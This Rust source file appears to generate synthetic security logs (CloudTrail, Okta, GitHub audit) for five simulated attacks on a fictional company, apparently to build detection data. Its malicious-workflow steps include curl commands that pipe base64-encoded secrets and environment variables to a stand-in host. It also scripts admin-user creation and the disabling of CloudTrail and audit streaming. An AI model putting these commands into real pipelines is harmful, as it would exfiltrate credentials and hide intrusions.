//! The attacks, each in two forms: other victims, other addresses, other order.

use crate::Attack;
use crate::cloudtrail::calls;
use crate::cloudtrail::{CLI, Caller, sso_caller, user_caller};
use crate::dice::BASE62;
use crate::github::audit::{Entry, Value};
use crate::okta::{Actor, BROWSERS, Happening, TOOL, Target, kinds};
use crate::org::{Place, address};
use crate::roster::{ATTACKER_LOGIN, PEOPLE, PROD, PUBLIC_REPO, REPOS, STAGING, TRAVEL_END};
use crate::scribe::Scribe;
use crate::text::{MINUTE_MS, SECOND_MS};
use crate::work::code::{Pipeline, Work, pull_request, push, run};
use crate::work::{identity, old_pipeline};

const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";

/// Names that a bought list holds and Acme never had.
const GUESSES: &[&str] = &[
    "admin@acme.example",
    "info@acme.example",
    "test@acme.example",
    "j.smith@acme.example",
    "maria.garcia@acme.example",
    "backup@acme.example",
    "helpdesk@acme.example",
    "kevin.lee@acme.example",
];

/// Plays one attack from `begin_ms` on, within `ATTACK_MS_MAX`.
pub(crate) fn play(scribe: &mut Scribe<'_>, attack: Attack, form: u64, begin_ms: i64) {
    match attack {
        Attack::LeakedKey => leaked_key(scribe, form, begin_ms),
        Attack::MaliciousWorkflow => malicious_workflow(scribe, form, begin_ms),
        Attack::CredentialStuffing => credential_stuffing(scribe, form, begin_ms),
        Attack::PrivilegeEscalation => privilege_escalation(scribe, form, begin_ms),
        Attack::LogTampering => log_tampering(scribe, form, begin_ms),
    }
}

/// A place where no employee ever is.
fn lair(scribe: &mut Scribe<'_>, form: u64) -> Place {
    let ip = address("203.0.113.", 130 + scribe.dice.below(120));
    Place { city: TRAVEL_END + (form % 2) as usize, ip }
}

/// Steps at some seconds from each other.
struct Clock {
    at_ms: i64,
}

impl Clock {
    fn after(&mut self, scribe: &mut Scribe<'_>, low_s: i64, high_s: i64) -> i64 {
        self.at_ms += scribe.dice.between(low_s * SECOND_MS, high_s * SECOND_MS);
        self.at_ms
    }
}

fn leaked_key(scribe: &mut Scribe<'_>, form: u64, begin_ms: i64) {
    let place = lair(scribe, form);
    let agent = if form == 0 {
        "Boto3/1.28.21 md/Botocore#1.31.21 ua/2.0 os/linux#5.15.0-kali3-amd64 md/arch#x86_64 lang/python#3.11.4 Botocore/1.31.21"
    } else {
        CLI
    };
    let thief = old_pipeline(scribe, &place.ip, agent);
    let mut clock = Clock { at_ms: begin_ms };
    let user = [("user", "ci-legacy-deployer")];
    for call in [&calls::CALLER_IDENTITY, &calls::LIST_BUCKETS] {
        let at_ms = clock.after(scribe, 2, 20);
        scribe.aws_with(at_ms, &thief, call, &[]);
    }
    for call in [&calls::LIST_USERS, &calls::LIST_ROLES, &calls::LIST_POLICIES, &calls::ACCOUNT_AUTHORIZATION]
    {
        let at_ms = clock.after(scribe, 1, 6);
        scribe.aws_denied(at_ms, &thief, call, &user);
    }
    for call in [&calls::LIST_SECRETS, &calls::LIST_FUNCTIONS, &calls::DESCRIBE_INSTANCES] {
        let at_ms = clock.after(scribe, 1, 9);
        scribe.aws_with(at_ms, &thief, call, &[]);
    }
    for secret in [
        "payments/prod",
        "ledger/prod",
        "identity/prod",
        "checkout/prod",
        "notifier/prod",
        "root/break-glass",
    ] {
        let at_ms = clock.after(scribe, 1, 8);
        let set = [("secret", secret)];
        if secret.starts_with("root") {
            scribe.aws_denied(at_ms, &thief, &calls::GET_SECRET, &set);
        } else {
            scribe.aws_with(at_ms, &thief, &calls::GET_SECRET, &set);
        }
    }
    let set = [("user", if form == 0 { "svc-backup" } else { "support-sync" }), ("policy", ADMINISTRATOR)];
    for call in
        [&calls::CREATE_USER, &calls::CREATE_KEY, &calls::CREATE_LOGIN_PROFILE, &calls::ATTACH_USER_POLICY]
    {
        let at_ms = clock.after(scribe, 20, 120);
        // the first form is stopped by IAM at the last step
        if form == 0 && call.name == "AttachUserPolicy" {
            scribe.aws_denied(at_ms, &thief, call, &set);
        } else {
            scribe.aws_with(at_ms, &thief, call, &set);
        }
    }
}

fn malicious_workflow(scribe: &mut Scribe<'_>, form: u64, begin_ms: i64) {
    let place = lair(scribe, form);
    let country = crate::org::city(&place).code;
    let fork = Work {
        repo: PUBLIC_REPO,
        actor: ATTACKER_LOGIN,
        branch: "improve-docs",
        title: "Improve docs",
        about: scribe.dice.next(),
        fork: Some(ATTACKER_LOGIN),
        ip: &place.ip,
        country,
    };
    pull_request(scribe, begin_ms, &fork, "opened");
    let label = Pipeline {
        workflow: "Label pull requests",
        path: ".github/workflows/label.yml",
        trigger: "pull_request_target",
        job: "label",
        steps: &[
            "Check out",
            "Install",
            "echo \"$SECRETS\" | base64 | curl -sS -d @- https://203.0.113.254/c",
        ],
    };
    run(scribe, begin_ms + 40 * SECOND_MS, &fork, &label);
    let changed = Work {
        repo: if form == 0 { 3 } else { 5 },
        actor: 13 + (form % 2) as usize * 16,
        branch: "main",
        title: "ci: speed up cache",
        about: scribe.dice.next(),
        fork: None,
        ip: &place.ip,
        country,
    };
    change_pipeline(scribe, form, begin_ms + 25 * MINUTE_MS, &changed);
}

/// With the token that the fork's run gave away, the pipeline of a service is changed and cleaned up after.
fn change_pipeline(scribe: &mut Scribe<'_>, form: u64, begin_ms: i64, work: &Work<'_>) {
    let token = [("programmatic_access_type", Value::Text("Personal access token (classic)"))];
    let branch = [token[0], ("branch", Value::Text("refs/heads/main"))];
    let run_id = 9_000_000_000 + crate::dice::mix(work.about ^ 1) % 1_000_000_000;
    let deleted = [token[0], ("workflow_run_id", Value::Number(run_id))];
    let secret = [token[0], ("key", Value::Text("CACHE_TOKEN")), ("forced", Value::Flag(false))];
    let entry = |action, operation, more| Entry {
        action,
        actor: work.actor,
        ip: work.ip,
        country: work.country,
        repo: Some(work.repo),
        operation,
        agent: "python-requests/2.32.3",
        more,
    };
    let mut clock = Clock { at_ms: begin_ms };
    for entry in [
        entry("git.clone", "access", &token),
        entry("protected_branch.policy_override", "modify", &branch),
        entry("repo.actions_enabled", "modify", &token),
    ] {
        let at_ms = clock.after(scribe, 8, 60);
        scribe.audit(at_ms, &entry);
    }
    let (added, modified) = if form == 0 {
        ("[\".github/workflows/cache-warm.yml\"]", "[]")
    } else {
        ("[]", "[\".github/workflows/deploy.yml\"]")
    };
    let at_ms = clock.after(scribe, 8, 20);
    push(scribe, at_ms, work, added, modified);
    let steal = Pipeline {
        workflow: if form == 0 { "Cache warm" } else { "Deploy" },
        path: if form == 0 { ".github/workflows/cache-warm.yml" } else { ".github/workflows/deploy.yml" },
        trigger: "push",
        job: "warm",
        steps: &["Check out", "env | base64 -w0 | curl --data-binary @- http://203.0.113.254:8080/x"],
    };
    run(scribe, at_ms + 18 * SECOND_MS, work, &steal);
    clock.at_ms += 9 * MINUTE_MS;
    for entry in [
        entry("workflows.delete_workflow_run", "remove", &deleted),
        entry("repo.create_actions_secret", "create", &secret),
    ] {
        let at_ms = clock.after(scribe, 5, 60);
        scribe.audit(at_ms, &entry);
    }
}

fn credential_stuffing(scribe: &mut Scribe<'_>, form: u64, begin_ms: i64) {
    let city = TRAVEL_END + (form % 2) as usize;
    let places: Vec<Place> = (0..4)
        .map(|number| Place { city, ip: address("203.0.113.", 150 + form % 8 * 10 + number) })
        .collect();
    let victim = if form == 0 { 24 } else { 37 };
    let mut clock = Clock { at_ms: begin_ms };
    let tries = 320 + scribe.dice.below(160);
    for _ in 0..tries {
        let at_ms = clock.after(scribe, 2, 14);
        let known = scribe.dice.chance(650);
        let who = scribe.dice.index(PEOPLE.len());
        let place = scribe.dice.index(places.len());
        let guess = scribe.dice.pick(GUESSES);
        let failure = Happening {
            kind: &kinds::LOGIN_FAILED,
            actor: if known { Actor::Person(who) } else { Actor::Unknown(guess) },
            target: Target::Nobody,
            place: &places[place],
            result: "FAILURE",
            reason: if known { "INVALID_CREDENTIALS" } else { "VERIFICATION_ERROR" },
            session: "unknown",
            browser: &TOOL,
            suspected: scribe.dice.chance(300),
        };
        scribe.okta(at_ms, &failure);
        if known && scribe.dice.chance(12) {
            let locked = Happening { kind: &kinds::LOCKED, reason: "LOCKED_OUT", ..failure };
            scribe.okta(at_ms + 400, &locked);
        }
    }
    let mut session = String::from("102");
    scribe.dice.letters(&mut session, 22, BASE62);
    let place = &places[0];
    let won = |kind| Happening {
        suspected: true,
        browser: &BROWSERS[3],
        ..identity::good(kind, victim, Target::Nobody, place, &session)
    };
    let at_ms = clock.after(scribe, 20, 90);
    scribe.okta(at_ms, &won(&kinds::SESSION_START));
    let denied = Happening {
        result: "FAILURE",
        reason: "User rejected Okta push verify",
        target: Target::Factor("Okta Verify: Push", victim),
        ..won(&kinds::MFA_FAILED)
    };
    for _ in 0..3 {
        let at_ms = clock.after(scribe, 15, 60);
        scribe.okta(at_ms, &Happening { target: Target::Person(victim), ..won(&kinds::PUSH_SENT) });
        scribe.okta(at_ms + 11_000, &denied);
    }
    let factor = Target::Factor("Okta Verify: Push", victim);
    for (kind, target) in [
        (&kinds::FACTOR_RESET, Target::Person(victim)),
        (&kinds::FACTOR_ON, factor),
        (&kinds::MFA, factor),
        (&kinds::SSO, Target::App("AWS IAM Identity Center")),
        (&kinds::SSO, Target::App("GitHub Enterprise Cloud - Acme Works")),
    ] {
        let at_ms = clock.after(scribe, 20, 150);
        scribe.okta(at_ms, &Happening { target, ..won(kind) });
    }
}

fn privilege_escalation(scribe: &mut Scribe<'_>, form: u64, begin_ms: i64) {
    let insider = if form == 0 { 27 } else { 36 };
    let place = if form == 0 {
        scribe.org.place(insider, begin_ms / crate::text::DAY_MS)
    } else {
        lair(scribe, form)
    };
    let account = if form == 0 { STAGING } else { PROD };
    let org = scribe.org;
    let mut me = sso_caller(org, &mut scribe.dice, insider, account, "Developer", &place.ip, begin_ms);
    me.console = false;
    CLI.clone_into(&mut me.agent);
    let mut clock = Clock { at_ms: begin_ms };
    let own = me.arn.clone();
    let role = "acme-break-glass";
    let set = [
        ("user", "ci-legacy-deployer"),
        ("policy", ADMINISTRATOR),
        ("role", role),
        ("principal", own.as_str()),
        ("session", "maintenance"),
    ];
    for call in [&calls::CALLER_IDENTITY, &calls::LIST_USERS, &calls::LIST_ROLES] {
        let at_ms = clock.after(scribe, 3, 30);
        scribe.aws_with(at_ms, &me, call, &set);
    }
    for call in [&calls::ATTACH_ROLE_POLICY, &calls::ASSUME_ROLE] {
        let at_ms = clock.after(scribe, 5, 40);
        scribe.aws_denied(at_ms, &me, call, &set);
    }
    for call in
        [&calls::CREATE_KEY, &calls::ATTACH_USER_POLICY, &calls::UPDATE_ASSUME_ROLE, &calls::ASSUME_ROLE]
    {
        let at_ms = clock.after(scribe, 15, 150);
        scribe.aws_with(at_ms, &me, call, &set);
    }
    let mut session = String::from("102");
    scribe.dice.letters(&mut session, 22, BASE62);
    let event = |kind, target| identity::good(kind, insider, target, &place, &session);
    for (kind, target) in [
        (&kinds::ADMIN_APP, Target::App("Okta Admin Console")),
        (&kinds::ADMIN_GRANT, Target::Role("Super administrator", insider)),
        (&kinds::TOKEN_CREATE, Target::Token("sync")),
    ] {
        let at_ms = clock.after(scribe, 60, 400);
        scribe.okta(at_ms, &event(kind, target));
    }
}

fn log_tampering(scribe: &mut Scribe<'_>, form: u64, begin_ms: i64) {
    let place = lair(scribe, form);
    // the user that the leaked key made, or a stolen session of a platform engineer
    let account = PROD;
    let who = if form == 0 { 28 } else { 33 };
    let caller: Caller = if form == 0 {
        user_caller(scribe.org, account, "svc-backup", &place.ip, CLI)
    } else {
        let org = scribe.org;
        sso_caller(org, &mut scribe.dice, who, account, "PlatformEngineer", &place.ip, begin_ms)
    };
    let mut clock = Clock { at_ms: begin_ms };
    let set = [
        ("trail", "acme-org-trail"),
        ("types", "WriteOnly"),
        ("management", "false"),
        ("group", "/acme/cloudtrail"),
    ];
    let steps = [&calls::DESCRIBE_TRAILS, &calls::PUT_SELECTORS, &calls::STOP_LOGGING];
    for call in steps {
        let at_ms = clock.after(scribe, 6, 70);
        scribe.aws_with(at_ms, &caller, call, &set);
    }
    let at_ms = clock.after(scribe, 6, 70);
    if form == 0 {
        scribe.aws_denied(at_ms, &caller, &calls::DELETE_TRAIL, &set);
    } else {
        scribe.aws_with(at_ms, &caller, &calls::DELETE_TRAIL, &set);
        let at_ms = clock.after(scribe, 6, 70);
        scribe.aws_with(at_ms, &caller, &calls::DELETE_LOG_GROUP, &set);
    }
    let country = crate::org::city(&place).code;
    for (action, operation) in [
        ("audit_log_streaming.update", "modify"),
        ("audit_log_streaming.destroy", "remove"),
        ("hook.destroy", "remove"),
    ] {
        let at_ms = clock.after(scribe, 30, 200);
        let agent = BROWSERS[1].agent;
        let repo = (action == "hook.destroy").then_some(REPOS.len() - 1);
        let more = [
            ("audit_log_stream_sink", Value::Text("Amazon S3")),
            ("audit_log_stream_enabled", Value::Flag(false)),
        ];
        let more: &[_] = if repo.is_some() { &more[..0] } else { &more };
        scribe.audit(
            at_ms,
            &Entry { action, actor: who, ip: &place.ip, country, repo, operation, agent, more },
        );
    }
}
